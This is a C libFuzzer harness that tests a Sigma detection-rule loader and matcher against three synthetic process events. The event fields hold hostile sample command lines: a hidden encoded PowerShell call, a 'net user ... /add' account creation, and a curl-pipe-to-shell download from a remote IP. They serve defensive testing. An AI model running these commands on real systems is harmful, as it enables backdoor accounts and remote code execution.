/* fuzz_sigma.c - libFuzzer harness for the Sigma loader and matcher: loads the input as rules, then matches fixed events with and without the prefilter, which must agree. */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "vigil/sigma.h"
#include "engine/sigma_ext.h"

#define CHECK(c)                 \
	do {                     \
		if (!(c))        \
			abort(); \
	} while (0)

static struct vg_event *events[3];

static void add(struct vg_event *ev, const char *name, const char *value)
{
	vg_event_add_field(ev, name, strlen(name), value, strlen(value));
}

static void make_events(void)
{
	struct vg_event *ev = vg_event_new();
	ev->platform = VG_PLATFORM_WINDOWS;
	ev->source = VG_SRC_SYSMON;
	ev->event_id = 1;
	ev->type = VG_EV_PROCESS_START;
	ev->time_ns = 1700000000123456789LL;
	add(ev, "EventID", "1");
	add(ev, "Channel", "Microsoft-Windows-Sysmon/Operational");
	add(ev, "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
	add(ev, "OriginalFileName", "PowerShell.EXE");
	add(ev, "CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA "
			       "/c \"whoami /all\" \xE2\x80\x93" "x aHR0cDovL2V2aWw= \\\\srv\\share*?");
	add(ev, "ParentImage", "C:\\Windows\\explorer.exe");
	add(ev, "User", "CORP\\alice");
	add(ev, "ParentUser", "CORP\\alice");
	add(ev, "Hashes", "SHA256=4E2D,MD5=ABCD,IMPHASH=0123456789ABCDEF0123456789ABCDEF");
	add(ev, "UtcTime", "2024-12-30 23:45:10.123");
	add(ev, "DestinationIp", "10.1.2.3");
	add(ev, "SourceIp", "fe80::1");
	add(ev, "GrantedAccess", "0x1410");
	add(ev, "Empty", "");
	add(ev, "Tag", "alpha");
	add(ev, "Tag", "beta");
	add(ev, "VigilTargetIsChild", "true");
	ev->nraw = ev->nfields - 1;
	events[0] = ev;

	ev = vg_event_new();
	ev->platform = VG_PLATFORM_WINDOWS;
	ev->source = VG_SRC_SECURITY;
	ev->event_id = 4688;
	ev->channel = "Security";
	add(ev, "EventID", "4688");
	add(ev, "NewProcessName", "C:\\Windows\\System32\\cmd.exe");
	add(ev, "Image", "C:\\Windows\\System32\\cmd.exe");
	add(ev, "CommandLine", "cmd.exe /c net user admin P@ss /add");
	add(ev, "SubjectUserName", "bob");
	add(ev, "TargetUserName", "bob");
	ev->nraw = ev->nfields;
	events[1] = ev;

	ev = vg_event_new();
	ev->platform = VG_PLATFORM_LINUX;
	ev->source = VG_SRC_EBPF;
	ev->type = VG_EV_PROCESS_START;
	add(ev, "Image", "/usr/bin/curl");
	add(ev, "CommandLine", "curl -s http://198.51.100.7/x.sh | sh");
	add(ev, "ParentImage", "/bin/bash");
	ev->nraw = ev->nfields;
	events[2] = ev;
}

static void on_error(const char *file, unsigned line, const char *reason, void *ctx)
{
	(void)ctx;
	CHECK(file && reason && reason[0]);
	(void)line;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const char *const admins[] = { "admin*", "root" };
	struct vg_ruleset *rs;
	int loaded;

	if (!events[0])
		make_events();
	if (vg_ruleset_new(&rs))
		return 0;
	vg_ruleset_set_placeholder(rs, "Admins", admins, 2);
	loaded = vg_ruleset_load_text(rs, "fuzz.yml", (const char *)data, size, on_error, NULL);
	if (loaded < 0) {
		vg_ruleset_free(rs);
		return 0;
	}
	CHECK((size_t)loaded == vg_ruleset_count(rs));
	for (size_t i = 0; i < vg_ruleset_count(rs); i++) {
		const struct vg_rule *r = vg_ruleset_rule(rs, i);
		CHECK(r->title && r->id && r->file);
	}
	int with[3], without[3];
	for (int e = 0; e < 3; e++)
		with[e] = vg_ruleset_match(rs, events[e], NULL, NULL);
	vg_ruleset_set_prefilter(rs, 0);
	for (int e = 0; e < 3; e++) {
		without[e] = vg_ruleset_match(rs, events[e], NULL, NULL);
		CHECK(with[e] == without[e]); /* the prefilter must never drop a match */
		CHECK(with[e] == vg_ruleset_match_naive(rs, events[e], NULL, NULL)); /* nor the index */
		CHECK(with[e] >= 0 && (size_t)with[e] <= vg_ruleset_count(rs));
	}
	vg_ruleset_free(rs);
	return 0;
}
